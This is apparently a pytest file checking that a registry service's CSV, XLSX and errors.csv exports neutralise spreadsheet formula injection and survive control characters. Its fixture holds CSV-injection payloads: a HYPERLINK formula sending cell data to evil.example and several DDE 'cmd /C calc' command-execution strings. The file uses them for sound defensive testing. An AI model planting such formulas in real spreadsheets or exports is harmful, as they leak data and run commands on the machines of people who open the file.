"""Exports a spreadsheet opens safely: formula-like names come back as plain strings from the CSV and the
XLSX export and from errors.csv (OWASP CSV injection), and a character XML cannot hold never breaks one."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import openpyxl
import pytest

from registry.main import spec
from servicekit.spreadsheets import XlsxWriter, csv_line
from testkit.databases import MigratedDbFactory
from testkit.services import RunningService, service_under_test

FORMULAS = {
    "91350100M000100Y43": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "914403001922038216": "+cmd|' /C calc'!A0",
    "91330100716105852F": "-2+3+cmd|' /C calc'!A0",
    "91440300708461136T": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
async def registry(migrated_db: MigratedDbFactory) -> AsyncIterator[RunningService]:
    async with service_under_test(spec, await migrated_db(spec, "sqlite")) as svc:
        for uscc, name in FORMULAS.items():
            body = {"uscc": uscc, "name": name, "district_code": "500103", "industry_code": "C36"}
            assert (await svc.client.post("/v1/enterprises", json=body)).status_code == 201
        yield svc


async def test_the_csv_export_writes_formula_like_names_as_text(registry: RunningService) -> None:
    r = await registry.client.get("/v1/enterprises/export", params={"format": "csv"})
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    names = {row[1]: row[0] for row in rows[1:]}
    assert names == {uscc: "'" + name for uscc, name in FORMULAS.items()}


async def test_the_xlsx_export_has_string_cells_never_formulas(registry: RunningService) -> None:
    r = await registry.client.get("/v1/enterprises/export", params={"format": "xlsx"})
    assert r.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).worksheets[0]
    cells = {row[1].value: row[0] for row in sheet.iter_rows(min_row=2)}
    assert {uscc: cell.value for uscc, cell in cells.items()} == FORMULAS
    assert {cell.data_type for cell in cells.values()} == {"s"}  # "f" would be a live formula


async def test_errors_csv_writes_uploaded_cells_as_text(registry: RunningService) -> None:
    upload = "统一社会信用代码,企业名称,区县代码,行业代码\n=1+1,@evil,500103,C36\n".encode()
    report = (await registry.client.post("/v1/enterprises/imports", content=upload)).json()
    assert report["rejected"] == 1, report
    r = await registry.client.get(f"/v1/enterprises/imports/{report['import_id']}/errors.csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1][:2] == ["2", "'=1+1"]


def test_characters_xml_cannot_hold_do_not_break_a_workbook() -> None:
    """Names stored before control characters were refused on input must still export."""
    book = XlsxWriter("企业名单", ["企业名称", "备注"])
    book.append(["响\u0007铃企业", "=1+1"])
    sheet = openpyxl.load_workbook(io.BytesIO(book.bytes())).worksheets[0]
    assert [c.value for c in next(sheet.iter_rows(min_row=2))] == ["响铃企业", "=1+1"]
    assert csv_line(["\x00=x", "\t-1"]) == "'=x,'\t-1\r\n"
